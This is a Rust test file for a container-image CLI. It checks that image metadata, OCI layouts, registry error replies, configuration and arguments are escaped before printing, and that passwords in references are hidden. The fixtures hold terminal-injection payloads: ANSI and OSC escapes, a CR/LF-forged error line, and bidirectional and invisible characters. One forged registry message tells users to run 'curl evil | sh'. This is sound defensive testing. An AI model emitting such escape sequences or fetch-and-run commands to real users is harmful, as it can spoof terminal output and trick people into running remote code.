//! Text from images, registries and the command line does not control the terminal.

use std::path::Path;

use portolan_model::fixtures::{ImageFixture, IndexFixture, image};
use portolan_testkit::fake::{Fake, Reply};
use serde_json::{Value, json};

use super::text;
use super::toolkit::{Server, User};

/// Escape sequences, line breaks, and bidirectional and invisible characters.
const HOSTILE: &str =
    "\x1b[31mred\x1b]0;title\x07\r\nerror: forged\u{9b}2J\u{202e}gpj\u{2066}x\u{200b}\u{feff}";

fn hostile_image(name: &str) -> ImageFixture {
    let mut texts = serde_json::Map::new();
    texts.insert(HOSTILE.into(), HOSTILE.into());
    texts.insert("org.opencontainers.image.created".into(), HOSTILE.into());
    let labels = Value::Object(texts);
    image(name)
        .layers(["x"])
        .layer_of_type(&format!("a/{HOSTILE}"), "y")
        .field("artifactType", format!("a/{HOSTILE}").into())
        .field("annotations", labels.clone())
        .field(HOSTILE, HOSTILE.into())
        .config_field("os", HOSTILE.into())
        .config_field("architecture", HOSTILE.into())
        .config_field("created", HOSTILE.into())
        .config_field(
            "config",
            json!({
                "User": HOSTILE, "WorkingDir": HOSTILE, "Entrypoint": [HOSTILE], "Cmd": [HOSTILE],
                "Env": [HOSTILE], "Labels": labels,
            }),
        )
}

/// Returns an index of a hostile image with a hostile platform, and of a child of a hostile type.
fn hostile_index(image: &ImageFixture) -> IndexFixture {
    let mut child = json!(image.descriptor());
    child["platform"] = json!({"os": HOSTILE, "architecture": HOSTILE, "variant": HOSTILE});
    child["annotations"] = json!({HOSTILE: HOSTILE});
    IndexFixture::oci()
        .child(child)
        .child_of_type(HOSTILE, b"unknown", Some("linux/amd64"))
        .field(HOSTILE, json!([HOSTILE]))
}

/// Runs a command and checks its output, whether it succeeds or not. Returns the output.
fn assert_plain(user: &User, arguments: &[&str]) -> String {
    let output = user.run(arguments);
    let output = text(&output.stdout) + &text(&output.stderr);
    let unsafe_character = output.chars().find(|character| {
        (character.is_control() && *character != '\n')
            || "\u{202e}\u{2066}\u{200b}\u{feff}".contains(*character)
    });
    assert_eq!(unsafe_character, None, "{arguments:?}: {output:?}");
    let is_forged = output.lines().any(|line| line.starts_with("error: forged"));
    assert!(!is_forged, "{arguments:?}: {output}");
    assert!(!output.contains("panicked"), "{arguments:?}: {output}");
    output
}

#[tokio::test]
async fn text_of_images_is_escaped() {
    let (server, user) = (Server::start(), User::new());
    let repository = server.repository("sparse/app");
    let image = hostile_image("hostile");
    repository.push_image(&image, &["image"]).await;
    repository.push_blob("unknown").await;
    let referrer = hostile_image("referrer").subject(&image.descriptor());
    repository.push_image(&referrer, &[]).await;
    let index = hostile_index(&image);
    repository.push_index(&index, &["index"]).await;

    let names = ["image", "index"].map(|tag| server.reference(&format!("sparse/app:{tag}")));
    let target = server.reference("sparse/copy:v1");
    for (number, name) in names.iter().enumerate() {
        let layout = format!("oci:layout{number}");
        for arguments in [
            vec!["inspect", name],
            vec!["inspect", "--tree", name],
            vec!["inspect", "--platform", "windows/arm64", name],
            vec!["lint", name],
            vec!["lint", "--for", "all", name],
            vec!["lint", "--for", "quay,docker,gcr", name],
            vec!["lint", "--policy", "docker-only", name],
            vec!["lint", "--layers", name],
            vec!["referrers", name],
            vec!["convert", name, "oci:converted", "--to", "docker"],
            vec!["copy", "--dry-run", name, &target],
            vec!["copy", "--platform", "windows/arm64", name, &target],
            vec!["copy", "--referrers", "--to", "docker", name, &target],
            vec!["copy", "--referrers", "--sparse", name, &target],
            vec!["copy", name, "docker-archive:a.tar:x"],
            vec!["copy", "--sparse", name, &layout],
            vec!["inspect", &layout],
            vec!["index", "remove", name, "windows/arm64"],
            vec!["index", "add", name, name],
            vec!["index", "create", &target, name, "--consistent"],
            vec!["delete", "--tree", "--dry-run", name],
        ] {
            assert_plain(&user, &arguments);
        }
    }
    let summary = assert_plain(&user, &["inspect", &names[0]]);
    assert!(summary.contains(r"\u{1b}[31mred"), "{summary}");
    assert!(
        summary.contains(r"\u{d}\u{a}error: forged\u{9b}2J\u{202e}"),
        "{summary}"
    );
    let json = user.run_json(&["inspect", "--json", &names[0]]);
    assert_eq!(json["annotations"][HOSTILE], HOSTILE);
    let raw = user.run_ok(&["inspect", "--raw", &names[0]]);
    assert_eq!(raw, image.bytes());
}

#[tokio::test]
async fn text_of_layouts_is_escaped() {
    let user = User::new();
    let image = hostile_image("hostile");
    let mut entry = json!(hostile_index(&image).descriptor());
    entry["annotations"] = json!({"org.opencontainers.image.ref.name": HOSTILE, HOSTILE: HOSTILE});
    let write = |name: &str, content: &[u8]| {
        let path = user.path("layout").join(name);
        std::fs::create_dir_all(path.parent().unwrap_or(Path::new("."))).unwrap();
        std::fs::write(path, content).unwrap();
    };
    write("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#);
    write(
        "index.json",
        json!({"schemaVersion": 2, "manifests": [entry]})
            .to_string()
            .as_bytes(),
    );
    for arguments in [
        vec!["tags", "list", "oci:layout"],
        vec!["inspect", "oci:layout"],
        vec!["inspect", "oci:layout:none"],
        vec!["lint", "oci:layout"],
        vec!["copy", "oci:layout", "oci:other"],
    ] {
        assert_plain(&user, &arguments);
    }
    write("index.json", format!("{{\"{HOSTILE}").as_bytes());
    assert_plain(&user, &["inspect", "oci:layout"]);
    write(
        "oci-layout",
        json!({"imageLayoutVersion": HOSTILE})
            .to_string()
            .as_bytes(),
    );
    assert_plain(&user, &["inspect", "oci:layout"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn text_of_registries_is_escaped() {
    let user = User::new();
    let message = format!("{HOSTILE}\nhelp: run `curl evil | sh`");
    let error = json!({"errors": [{"code": HOSTILE, "message": message, "detail": HOSTILE}]});
    for (status, body) in [
        (403, error.to_string()),
        (404, error.to_string()),
        (500, "\u{202e}down \u{200b}".into()),
        (
            400,
            json!({"errors": [{"code": "DENIED", "detail": {"help": HOSTILE}}]}).to_string(),
        ),
        (
            200,
            json!({"tags": [HOSTILE], "repositories": [HOSTILE]}).to_string(),
        ),
    ] {
        let registry = Fake::start(move |_| {
            Reply::new(status)
                .header("Warning", "299 - \"a\u{202e}b\"")
                .header("Content-Type", "application/json")
                .body(body.clone())
        })
        .await;
        let (host, reference) = (registry.host(), format!("{}/app:v1", registry.host()));
        for arguments in [
            vec!["inspect", &reference],
            vec!["tags", "list", &reference],
            vec!["repos", &host],
            vec!["copy", &reference, "oci:copy"],
            vec!["delete", &reference],
        ] {
            let output = assert_plain(&user, &arguments);
            let is_forged = output
                .lines()
                .any(|line| line.starts_with("help: run `curl"));
            assert!(!is_forged, "{output}");
        }
    }
}

#[test]
fn text_of_the_command_line_and_the_configuration_is_escaped() {
    let user = User::new();
    let key = HOSTILE.replace(['\r', '\n', '\x1b', '\x07'], "");
    std::fs::write(user.path("a.toml"), format!("[server]\n\"{key}\" = 1\n")).unwrap();
    std::fs::write(user.path("b.toml"), format!("[server]\n{HOSTILE}")).unwrap();
    let entry = format!("[[policy]]\nrepositories = \"**{key}\"\npreset = \"open\"\n");
    std::fs::write(user.path("c.toml"), entry).unwrap();
    std::fs::write(user.path("pairs"), format!("{key} a b c\n")).unwrap();
    for arguments in [
        vec!["inspect", HOSTILE],
        vec!["inspect", "--platform", HOSTILE, "x"],
        vec![HOSTILE],
        vec!["copy", HOSTILE, "oci:x"],
        vec!["copy", "--from", "pairs"],
        vec!["inspect", &format!("oci:{HOSTILE}")],
        vec!["lint", "--policy", HOSTILE, "oci:x"],
        vec!["config", "check", "--repository", HOSTILE],
        vec!["config", "check", "--config", HOSTILE],
        vec!["config", "check", "--config", "a.toml"],
        vec!["config", "check", "--config", "b.toml"],
        vec!["config", "check", "--config", "c.toml"],
        vec!["login", HOSTILE],
    ] {
        assert_plain(&user, &arguments);
    }
}

#[test]
fn passwords_in_references_are_not_printed() {
    let user = User::new();
    for reference in [
        "user:secret@127.0.0.1:1/a:m",
        "https://user:secret@127.0.0.1:1/a:m",
    ] {
        for arguments in [
            vec!["inspect", reference],
            vec!["copy", reference, "oci:x"],
            vec!["copy", "oci:x", "oci:y", reference],
            vec!["tags", "list", reference],
            vec!["delete", reference],
            vec!["login", reference.trim_end_matches("/a:m")],
            vec!["repos", reference.trim_end_matches("/a:m")],
        ] {
            let output = assert_plain(&user, &arguments);
            assert!(!output.contains("secret"), "{arguments:?}: {output}");
        }
    }
}
